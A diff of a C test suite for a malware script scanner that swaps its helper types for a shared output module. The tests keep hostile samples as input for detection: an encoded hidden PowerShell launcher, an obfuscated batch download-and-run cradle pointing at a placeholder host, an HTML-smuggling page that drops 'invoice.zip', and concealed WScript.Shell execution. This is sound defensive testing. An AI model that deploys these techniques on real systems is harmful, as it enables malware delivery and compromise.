@@ -30,6 +30,7 @@
 #include "heur/script.h"
 #include "model/hit.h"
 #include "lib/xalloc.h"
+#include "testouts.h"
 #include "testutil.h"
 
 /* ------------------------------------------------------------------ weights */
@@ -64,45 +65,10 @@ static double weight(const char *sym)
 
 /* ------------------------------------------------------------------ helpers */
 
-typedef struct LAYER {
-    char how[32], lang[16];
-    char *data;
-    size_t len;
-} LAYER;
-
-typedef struct EMITTED {
-    LAYER v[64];
-    size_t n;
-} EMITTED;
-
-/* on_emit - HEUR_CTX emit callback: keep the layers */
-static void on_emit(void *ctx, const char *how, const char *lang, const unsigned char *data,
-                    size_t n)
-{
-    EMITTED *e = ctx;
-    if (e->n >= sizeof(e->v) / sizeof(e->v[0]))
-        return;
-    LAYER *l = &e->v[e->n++];
-    snprintf(l->how, sizeof(l->how), "%s", how);
-    snprintf(l->lang, sizeof(l->lang), "%s", lang ? lang : "(null)");
-    l->data = xmemdup(data, n + 1);
-    l->data[n] = 0;
-    l->len = n;
-}
-
-/* emitted_free - release kept layers */
-static void emitted_free(EMITTED *e)
-{
-    for (size_t i = 0; i < e->n; i++)
-        free(e->v[i].data);
-    e->n = 0;
-}
-
-/* analyse - heur_script over s; hits and layers returned */
-static HITS *analyse(const char *lang, const char *s, size_t n, EMITTED *e)
+static HITS *analyse(const char *lang, const char *s, size_t n, OUTS *e)
 {
     HITS *h = hits_new();
-    HEUR_CTX c = {h, "1/x", NULL, e ? on_emit : NULL, e, 0, 4u << 20, 40};
+    HEUR_CTX c = {h, "1/x", NULL, e ? outs_emit : NULL, e, 0, 4u << 20, 40};
     heur_script(&c, lang, (const unsigned char *)s, n);
     return h;
 }
@@ -389,17 +355,8 @@ static void test_positives(void **state)
     assert_int_equal(failed, 0);
 }
 
-/* find_layer - the first layer of pass how */
-static const LAYER *find_layer(const EMITTED *e, const char *how)
-{
-    for (size_t i = 0; i < e->n; i++)
-        if (strcmp(e->v[i].how, how) == 0)
-            return &e->v[i];
-    return NULL;
-}
-
 /* layer_case - run heur_script over a layer as scan.c would; 1 when it failed */
-static int layer_case(const char *name, const LAYER *l, const char *want, enum band band)
+static int layer_case(const char *name, const OUT *l, const char *want, enum band band)
 {
     if (l == NULL) {
         print_error("FAIL %s: no layer\n", name);
@@ -417,13 +374,13 @@ static void test_encoded_cradle(void **state)
     char *enc = b64_utf16(cradle);
     BUF *b = buf_new(512);
     buf_printf(b, "powershell -nop -w hidden -enc %s", enc);
-    EMITTED e = {.n = 0};
+    OUTS e = {.n = 0};
     HITS *h = analyse("bat", b->data, b->len, &e);
     assert_true(hits_has(h, "PS_ENCODED_COMMAND"));
     assert_true(hits_has(h, "SCRIPT_HIDDEN_WINDOW"));
     assert_true(hits_has(h, "PS_NOPROFILE_NONINTERACTIVE"));
     assert_false(hits_has(h, "SCRIPT_DOWNLOAD")); /* not visible before decoding */
-    const LAYER *l = find_layer(&e, "encodedcommand");
+    const OUT *l = outs_find(&e, "encodedcommand");
     assert_non_null(l);
     assert_string_equal(l->lang, "ps1");
     assert_string_equal(l->data, cradle);
@@ -433,12 +390,12 @@ static void test_encoded_cradle(void **state)
                      0);
     /* the same command line from a shortcut */
     hits_free(h);
-    emitted_free(&e);
+    outs_free(&e);
     h = analyse("lnk", b->data, b->len, &e);
     assert_true(hits_has(h, "SCRIPT_LNK_LAUNCHER"));
-    assert_non_null(find_layer(&e, "encodedcommand"));
+    assert_non_null(outs_find(&e, "encodedcommand"));
     hits_free(h);
-    emitted_free(&e);
+    outs_free(&e);
     buf_free(b);
     free(enc);
 }
@@ -452,11 +409,11 @@ static void test_batch_layers(void **state)
                       "set y=%x:~15,1%%x:~14,1%%x:~22,1%%x:~4,1%%x:~17,1%\r\n"
                       "c^m^d /c %y%s^hell -w hidden -c \"IEX(New-Object "
                       "Net.WebClient).DownloadString('http://x/b')\"\r\n";
-    EMITTED e = {.n = 0};
+    OUTS e = {.n = 0};
     HITS *h = analyse("bat", bat, strlen(bat), &e);
     assert_true(hits_has(h, "BAT_OBFUSCATED"));
     assert_true(hits_has(h, "SCRIPT_PROCESS_LAUNCH")); /* c^m^d /c, caret-stripped view */
-    const LAYER *l = find_layer(&e, "cmdset");
+    const OUT *l = outs_find(&e, "cmdset");
     assert_non_null(l);
     assert_string_equal(l->lang, "bat");
     assert_non_null(strstr(l->data, "cmd /c powershell -w hidden -c \"IEX("));
@@ -466,7 +423,7 @@ static void test_batch_layers(void **state)
                                 REJECT),
                      0);
     hits_free(h);
-    emitted_free(&e);
+    outs_free(&e);
 }
 
 /* test_smuggling - a page that builds a zip in the browser; its payload goes to scan.c */
@@ -489,15 +446,15 @@ static void test_smuggling(void **state)
                "a.download = \"invoice.zip\"; document.body.appendChild(a); a.click();\n"
                "</script></body></html>\n",
                payload);
-    EMITTED e = {.n = 0};
+    OUTS e = {.n = 0};
     HITS *h = analyse("html", b->data, b->len, &e);
     assert_true(hits_has(h, "HTML_SMUGGLING"));
-    const LAYER *l = find_layer(&e, "base64");
+    const OUT *l = outs_find(&e, "base64");
     assert_non_null(l);
     assert_string_equal(l->lang, "(null)");
     assert_memory_equal(l->data, "PK\x03\x04", 4);
     hits_free(h);
-    emitted_free(&e);
+    outs_free(&e);
     /* a data: URL with a download attribute; the same as a .js file is not markup */
     const char *a = "<a href=\"data:application/octet-stream;base64,UEsDBBQAAAAIAAAAIQA=\" "
                     "download=\"invoice.zip\">Open invoice</a>";
@@ -517,11 +474,11 @@ static void test_layers_and_obfuscation(void **state)
     (void)state;
     const char *js = "var o = new ActiveXObject(\"WScr\" + \"ipt.Sh\" + \"ell\");\n"
                      "o.Run(String.fromCharCode(99,109,100,32,47,99,32,99,97,108,99), 0);\n";
-    EMITTED e = {.n = 0};
+    OUTS e = {.n = 0};
     HITS *h = analyse("js", js, strlen(js), &e);
     assert_true(hits_has(h, "SCRIPT_OBFUSCATED"));
     assert_false(hits_has(h, "SCRIPT_COM_SHELL")); /* hidden by the concatenation */
-    const LAYER *l = find_layer(&e, "charcodes");
+    const OUT *l = outs_find(&e, "charcodes");
     assert_non_null(l);
     assert_non_null(strstr(l->data, "new ActiveXObject(\"WScript.Shell\")"));
     assert_non_null(strstr(l->data, "o.Run(\"cmd /c calc\", 0)"));
@@ -529,14 +486,14 @@ static void test_layers_and_obfuscation(void **state)
                                 "SCRIPT_COM_SHELL SCRIPT_PROCESS_LAUNCH SCRIPT_HIDDEN_WINDOW", TAG),
                      0);
     hits_free(h);
-    emitted_free(&e);
+    outs_free(&e);
     const char *jse = "#@~^LAAAAA==W!x^DkKxP6WKc#Pls+MYcvD+/D@$@!D+/D@*@#@&E#p8Vg0AAA==^#~@";
     h = analyse("jse", jse, strlen(jse), &e);
     assert_true(hits_has(h, "SCRIPT_ENCODED"));
-    assert_non_null(find_layer(&e, "jse"));
-    assert_string_equal(find_layer(&e, "jse")->lang, "js");
+    assert_non_null(outs_find(&e, "jse"));
+    assert_string_equal(outs_find(&e, "jse")->lang, "js");
     hits_free(h);
-    emitted_free(&e);
+    outs_free(&e);
 }
 
 /* test_robustness - no emit callback, empty input, unknown language, no hit list */
@@ -556,11 +513,11 @@ static void test_robustness(void **state)
     BUF *b = buf_new(1 << 20);
     while (b->len < (1 << 20))
         buf_puts(b, ".run( download atob(' data:application/ cmd /c iex -w ");
-    EMITTED e = {.n = 0};
+    OUTS e = {.n = 0};
     h = analyse("html", b->data, b->len, &e);
     assert_true(e.n <= 32);
     hits_free(h);
-    emitted_free(&e);
+    outs_free(&e);
     buf_free(b);
 }
 
